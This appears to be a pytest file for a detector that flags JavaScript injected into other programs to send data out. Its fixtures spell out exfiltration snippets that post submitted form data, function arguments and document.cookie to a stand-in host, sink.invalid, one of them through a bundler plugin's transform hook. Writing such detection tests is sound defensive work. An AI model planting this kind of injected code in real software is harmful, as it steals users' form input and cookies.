"""Code that is put into the programs of others."""

import pytest

from tests.analysis.languages.javascript.reading import facts

PLUGIN = (
    "module.exports = () => ({name: 'p', transform(code, id) {\n"
    "  return code + \"document.addEventListener('submit', e => navigator.sendBeacon('https://sink.invalid/c', new FormData(e.target)))\";\n}});\n"
)


def sent(source: str) -> list[str | None]:
    return [use.argument for use in facts(source).uses if use.api == "injected-code-sends"]


@pytest.mark.parametrize(
    "source",
    [
        PLUGIN,
        PLUGIN.replace('"document', "`document").replace('target)))"', "target)))`"),
        "const t = template.statements(`fetch('https://sink.invalid/a', {method: 'POST', body: JSON.stringify(arguments)})`);",
        "require('fs').appendFileSync(f, \"new Image().src = 'https://sink.invalid/i?' + document.cookie\");",
    ],
    ids=["a text", "a template", "statements", "appended"],
)
def test_it_is_told_with_the_host(source: str) -> None:
    assert ["https://sink.invalid/"] == sent(source)


@pytest.mark.parametrize(
    "source",
    [
        PLUGIN.replace("transform(code, id)", "make(code)"),
        PLUGIN.replace("new FormData(e.target)", "location.pathname"),
        PLUGIN.replace("https://sink.invalid/c", "/c"),
        PLUGIN.replace("navigator.sendBeacon", "console.log"),
    ],
    ids=["put nowhere", "nothing private", "the page's own host", "nothing sent"],
)
def test_less_is_not(source: str) -> None:
    assert [] == sent(source)
